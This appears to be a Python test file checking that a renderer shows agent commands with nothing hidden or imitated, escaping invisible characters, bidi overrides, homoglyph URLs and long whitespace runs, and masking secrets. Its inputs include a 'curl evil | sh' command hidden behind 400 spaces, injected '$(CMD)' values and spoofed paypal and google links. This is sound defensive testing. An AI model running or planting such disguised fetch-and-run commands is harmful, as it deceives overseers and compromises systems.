"""Text with every character visible: nothing is hidden, imitated or lost."""

import json
import re
import time
import unicodedata
from typing import Any

import pytest
import regex
from hypothesis import given, settings
from hypothesis import strategies as st

from remoteclaw.bridge.scrubber import Scrubber
from remoteclaw.bridge.visible import Renderer, without_marks
from tests.support.cards import KEY

render = Renderer(Scrubber())
_ESCAPE = re.compile(r"\\u([0-9a-f]{4})|\\u\{([0-9a-f]+)\}|\[([␣⏎])×([0-9]+)\]|([␣⇥⏎])|\n")
_SIGNS = {"␣": " ", "⇥": "\t", "⏎": "\n"}
#: Characters without a visible form, by the standard's properties; blanks and line ends excepted.
_INVISIBLE = regex.compile(
    r"[[\p{C}\p{Z}\p{Default_Ignorable_Code_Point}\p{Me}]--[\x20\n]]", regex.V1
)
#: Where a joiner or a selector belongs to an emoji or to the spelling of a word.
_SPELLED = regex.compile(
    r"\p{Extended_Pictographic}\ufe0f?\p{Emoji_Modifier}?"
    r"(?:\u200d\p{Extended_Pictographic}\ufe0f?\p{Emoji_Modifier}?)*"
    r"|[0-9]\ufe0f\u20e3"
    r"|(?<=\p{ccc=9})[\u200c\u200d](?=\p{L})|(?<=\p{jt=D})\u200c(?=\p{bc=AL})"
)
#: Pieces of texts that hide, imitate, reorder or overlap.
PIECES = (
    *(
        "git status",
        "; ",
        "touch p0",
        "a",
        "1",
        "#",
        "\\",
        "u",
        "{",
        "[",
        "]",
        "secret",
        "×",
        "400",
    ),
    *(
        "\\u202e",
        "\\u{e0041}",
        "\\u005cu202e",
        "\\u005c",
        "[secret]",
        "[␣×400]",
        "␣",
        "⇥",
        "⏎",
        "▸",
    ),
    *(" ", " " * 17, " " * 400, "\n", "\n" * 5, "\t", "\r", "\r\n", "\x1b[2J", "\x00", "\x85"),
    *("\u200b", "\u200c", "\u200d", "\u202e", "\u2066", "\ufeff", "\u034f", "\u3164", "\u2800"),
    *("\ufe0f", "\ufe00", "\U000e0100", "\U000e0041", "\ue000", "\u0378", "\ud800", "\udc00"),
    *(
        "\u0301",
        "\u20dd",
        "\u20e3",
        "\u030a",
        "é",
        "क",
        "्",
        "می",
        "خ",
        "⚠",
        "👩",
        "💻",
        "\U0001f3fd",
    ),
    *("https://", "@host", "а", "раураl", "／", "。"),
)
hostile_texts = st.lists(st.sampled_from(PIECES) | st.characters(), max_size=12).map("".join)


def original(shown: str) -> str:
    """Return the text that `Renderer.content` has shown, without its escapes and marks."""

    def decoded(match: re.Match[str]) -> str:
        if match[1] or match[2]:
            return chr(int(match[1] or match[2], 16))
        return _SIGNS.get(match[3] or match[5], "") * int(match[4] or 1)

    return _ESCAPE.sub(decoded, shown)


@settings(max_examples=200)
@given(hostile_texts)
def test_a_text_without_its_escapes_is_the_original(text: str) -> None:
    assert original(render.content(text)) == text
    assert original(render.line(text)) == text


@settings(max_examples=200)
@given(st.recursive(hostile_texts, lambda texts: st.lists(texts, max_size=3)))
def test_json_without_its_escapes_has_the_original_values(value: Any) -> None:
    shown = render.json({"argument": value})

    runs = re.sub(r"\[␣×([0-9]+)\]", lambda match: " " * int(match[1]), shown)
    as_json = re.sub(
        r"(\\\\)|\\u\{([0-9a-f]+)\}",
        lambda match: match[1] or json.dumps(chr(int(match[2], 16)))[1:-1],
        runs,
    )
    assert json.loads(as_json)["argument"] == json.loads(json.dumps(value))


@settings(max_examples=200)
@given(hostile_texts)
def test_no_character_of_a_shown_text_is_invisible(text: str) -> None:
    for shown in (render.content(text), render.prose(text), render.json({"argument": text})):
        assert not _INVISIBLE.search(_SPELLED.sub("", shown))
        assert not re.search(r" {41}|[^ \n] {17}|\n{4}", shown)
    assert not re.search(r" $", render.content(text), re.MULTILINE)


@settings(max_examples=200)
@given(st.text("a \n\t[]×9"))
def test_an_agent_gets_back_the_blanks_and_line_ends_of_its_action(text: str) -> None:
    assert without_marks(render.content(text)) == text


@settings(max_examples=200)
@given(hostile_texts, hostile_texts)
def test_two_texts_never_look_the_same(one: str, other: str) -> None:
    assert (render.content(one) == render.content(other)) is (one == other)


def test_every_character_that_a_font_shows_as_nothing_is_an_escape() -> None:
    empty = "\u2800\ufffc\U00013441\U00013442\U0001d159"
    hidden = [c for c in map(chr, range(0x110000)) if _INVISIBLE.match(c) or c in empty]
    # Most of them are not assigned, or private: a sample is enough.
    hidden = [c for c in hidden if unicodedata.category(c) not in ("Cn", "Co") or ord(c) % 251 == 0]
    assert len(hidden) > 5_000

    def escape(character: str) -> str:
        code = ord(character)
        return f"\\u{code:04x}" if code < 0x10000 else f"\\u{{{code:x}}}"

    shown = ";".join("⇥" if each == "\t" else escape(each) for each in hidden)
    assert render.content(";".join(hidden)) == shown


def test_a_combining_mark_without_a_letter_is_an_escape() -> None:
    marks = [c for c in map(chr, range(0x110000)) if unicodedata.category(c)[0] == "M"]

    for before in ("", " ", ";", "1", "─", "\u202e"):
        for mark in marks:
            assert mark not in render.content(f"{before}{mark}")
    assert render.content("e" + "\u0301" * 9) == "e" + "\u0301" * 4 + "\\u0301" * 5


@pytest.mark.parametrize(
    "text",
    [
        "git commit -m 'Fix: größer, naïve, Đặng, Ελληνικά, Привет, 修正：テスト（完了）！'",
        "echo 'سلام دنیا، می‌خواهم' 'שָׁלוֹם' 'ไทย น้ำ' '한국어'",
        "echo 'हिन्दी क्ष क्‍ष' 'ශ්‍රී ලංකා' 'বাংলা' 'தமிழ்'",
        "echo '⚠️ ✅ ❤️ 👩🏽‍💻 👨‍👩‍👧 🏳️‍🌈 🇩🇪 1️⃣ №5 ½ … “quoted” – €'",
        "cat résumé.pdf отчёт_v2.txt Tシャツ.png 100µm",
        "grep -P '\\d+\\s' C:\\users\\x | sed 's/\\\\n/x/' && echo \\usepackage [a-z]",
        "if x:\n    y()\n\n\nz",
    ],
)
def test_what_honest_people_write_stays_readable(text: str) -> None:
    assert render.content(text).replace("⏎", "") == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("git status" + " " * 400 + "; curl evil | sh", "git status[␣×400]; curl evil | sh"),
        ("git status [␣×400]", "git status [\\u2423×400]"),
        ("rm a\\ ", "rm a\\␣"),
        ("rm a \n b", "rm a␣⏎\n b"),
        ("a" + "\n" * 300 + "b", "a[⏎×300]\nb"),
        ("a⏎\nb", "a\\u23ce⏎\nb"),
        ("make\n▸ in /safe", "make⏎\n\\u25b8 in /safe"),
        ("a\\u202eb", "a\\u005cu202eb"),
        ("rm [secret]", "rm \\u005bsecret]"),
        ("curl https://$(CMD)@host", "curl https://$(CMD)@host"),
        ("https://аррӏе.com/é", "https://\\u0430\\u0440\\u0440\\u04cf\\u0435.com/é"),
        ("https://google.com⁄@evil", "https://google.com\\u2044@evil"),
        ("сurl pаypal.com", "\\u0441url p\\u0430ypal.com"),
        ("🏴\U000e0067\U000e007f", "🏴\\u{e0067}\\u{e007f}"),
    ],
)
def test_a_text_can_neither_hide_nor_imitate(text: str, shown: str) -> None:
    assert render.content(text) == shown


TOKEN = "ghp_" + "a" * 36
PEM = f"{KEY}\n{'MII' * 20}\n{'abc' * 20}\n{KEY.replace('BEGIN', 'END')}\n"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            f"git status # {KEY}\ntouch p0",
            f"git status # {KEY}⏎\ntouch p0",
        ),
        ("curl -H 'Authorization: Bearer x;CMD'", "curl -H 'Authorization: Bearer x;CMD'"),
        (f"curl -u {TOKEN}; CMD", "curl -u [secret]; CMD"),
        (f"curl {TOKEN}$(CMD)|`CMD`>{TOKEN}", "curl [secret]$(CMD)|`CMD`>[secret]"),
        ("run x@sha256:" + "0a" * 32, "run x@sha256:" + "0a" * 32),
        ("login hunter2hunter2!;CMD", "login [secret];CMD"),
        ("login correct  horse\nbattery; CMD", "login [secret]  [secret]⏎\n[secret]; CMD"),
        (
            f"echo '{PEM}' > k",
            "echo '[secret] [secret] [secret]⏎\n[secret]⏎\n[secret]⏎\n[secret] [secret] [secret]⏎\n"
            "' > k",
        ),
    ],
)
def test_a_secret_hides_nothing_but_its_own_words(text: str, shown: str) -> None:
    known = Renderer(Scrubber(["hunter2hunter2!", "correct horse battery", PEM]))

    assert known.content(text) == shown


@pytest.mark.parametrize(
    "piece", ["a", " ", "\n", " " * 16 + "\n", "é", "\u202e", "aб", "https://é"]
)
def test_a_long_text_is_written_within_seconds(piece: str) -> None:
    """The time grows with the length, and not with its square."""
    began = time.process_time()
    render.content(piece * (200_000 // len(piece)))

    assert time.process_time() - began < 5
